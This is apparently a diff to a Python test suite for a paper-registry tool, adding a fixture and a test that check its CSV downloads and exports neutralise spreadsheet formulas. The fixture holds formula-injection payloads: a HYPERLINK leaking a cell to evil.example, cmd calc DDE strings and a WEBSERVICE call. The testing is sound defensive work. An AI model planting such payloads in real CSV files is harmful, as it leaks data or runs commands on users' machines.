@@ -219,12 +219,47 @@ PEOPLE = {
 }
 
 
+# Text a spreadsheet would run as a formula, in an entry and an exclusion of the same pool,
+# which lays out CSV so that its site offers the CSV downloads
+FORMULA_TEXT = {
+    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Open the paper")',
+    "authors": ["=cmd|' /C calc'!A0, Eve", "@SUM(1+1), Mallory", "-2+3, Trudy"],
+    "summary": "+1+cmd|' /C calc'!A0; =2 after a semicolon\n@3 after a line break\t-4 after a tab",
+}
+FORMULAS = {"key": "formulas", **FORMULA_TEXT, "year": 2026, "urls": ["https://example.org/formulas"], "method": "rl",
+            "unit": "team", "decisions": {"D1": "designed"}, "added": "2026-05-03"}
+FORMULA_EXCLUSION = {"key": "x-formula", "title": " =WEBSERVICE(\"https://evil.example\")", "stage": "full_text"}
+CSV_LAYOUT = """
+csv:
+  entries:
+    source_columns:
+      - {column: key, field: key}
+      - {column: title, field: title}
+      - {column: authors, field: authors, convert: author_list}
+      - {column: year, field: year, convert: integer}
+      - {column: urls, field: urls, convert: url_list}
+      - {column: method, field: method}
+      - {column: unit, field: unit}
+      - {column: decisions, field: decisions, convert: value_map}
+      - {column: summary, field: summary}
+  exclusions:
+    source_columns:
+      - {column: key, field: key}
+      - {column: title, field: title}
+      - {column: stage, field: stage}
+"""
+
+
 def people_pool(root: Path) -> Path:
     """The hostile pool of test_site, plus an entry with what that one lacks: a very long
-    title, right-to-left overrides, data: links, a markdown table and raw HTML links."""
+    title, right-to-left overrides, data: links, a markdown table and raw HTML links; and
+    an entry and an exclusion whose texts are spreadsheet formulas, with a CSV layout."""
     hostile_pool(root)
-    text = yaml.safe_dump(PEOPLE, allow_unicode=False, sort_keys=False, width=10_000)
-    (root / "papers" / "for-people.yaml").write_text(text.replace("'2026-05-02'", "2026-05-02"), encoding="utf-8")
+    for folder, record in (("papers", PEOPLE), ("papers", FORMULAS), ("exclusions", FORMULA_EXCLUSION)):
+        text = yaml.safe_dump(record, allow_unicode=False, sort_keys=False, width=10_000)
+        (root / folder / f"{record['key']}.yaml").write_text(re.sub(r"'(2026-05-0\d)'", r"\1", text), encoding="utf-8")
+    with (root / "registry.yaml").open("a", encoding="utf-8") as registry:
+        registry.write(CSV_LAYOUT)
     return root
 
 
@@ -294,7 +329,8 @@ def test_the_readme_block_shows_the_hostile_entry_as_text(people):
     assert {tag for tag, _ in elements.elements} <= {"h1", "h3", "h4", "p", "ul", "li", "strong", "em", "a", "br", "code"}
     assert {name for _, attrs in elements.elements for name in attrs} <= {"href"}
     assert {attrs["href"] for tag, attrs in elements.elements if tag == "a"} == {
-        f"https://example.org/{k}" for k in ("alpha", "beta", "gamma", "delta", "epsilon", "hostile?a=1&b=%3C2%3E", "for-people")}
+        f"https://example.org/{k}" for k in ("alpha", "beta", "gamma", "delta", "epsilon", "hostile?a=1&b=%3C2%3E", "for-people",
+                                             "formulas")}
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "{{ config }}" in html
 
 
@@ -309,6 +345,32 @@ def test_the_bibtex_and_ris_exports_read_back_to_the_text_without_its_controls(p
     ris = {entry["id"]: entry for entry in rispy.loads(run("export", "--format", "ris", cwd=root).output)}
     assert ris["for-people"]["title"] == LONG_TITLE.replace(RLO, "")
     assert ris["for-people"]["authors"] == ["redro, Evil", "[Mallory](javascript:alert(1))"]
+
+
+def test_the_csv_downloads_and_exports_hold_no_formula_and_read_back_to_the_text(people, run):
+    from .test_csvcells import runnable_cells
+
+    root, site = people
+    assert "downloads/entries.csv" in (site / "downloads.html").read_text(encoding="utf-8")
+    written = {name: (site / "downloads" / name).read_bytes().decode("utf-8") for name in ("entries.csv", "exclusions.csv")}
+    assert written["entries.csv"] == run("export", "--format", "csv", cwd=root).output
+    assert written["exclusions.csv"] == run("export", "--exclusions", cwd=root).output
+    assert {name: runnable_cells(text) for name, text in written.items()} == {"entries.csv": [], "exclusions.csv": []}
+    assert "=HYPERLINK" in written["entries.csv"] and "WEBSERVICE" in written["exclusions.csv"]
+    # import-csv reads each back to the record's text, into a pool of the same registry
+    for name, kind, record in (("entries.csv", "papers", FORMULAS), ("exclusions.csv", "exclusions", FORMULA_EXCLUSION)):
+        empty = root.parent / f"empty-{kind}"
+        empty.mkdir()
+        shutil.copy(root / "registry.yaml", empty / "registry.yaml")
+        (empty / "papers").mkdir()
+        (empty / "exclusions").mkdir()
+        (empty / name).write_bytes(written[name].encode("utf-8"))
+        args = ("--exclusions",) if kind == "exclusions" else ()
+        result = run("import-csv", name, *args, "--date-added", "2026-05-03", cwd=empty)
+        assert result.exit_code == 0, result.output
+        imported = load_yaml(empty / kind / f"{record['key']}.yaml").data
+        assert {field: imported[field] for field in record if field not in ("added", "year")} == {
+            field: value.strip() if isinstance(value, str) else value for field, value in record.items() if field not in ("added", "year")}
 
 
 # ---------------------------------------------------------------------------------
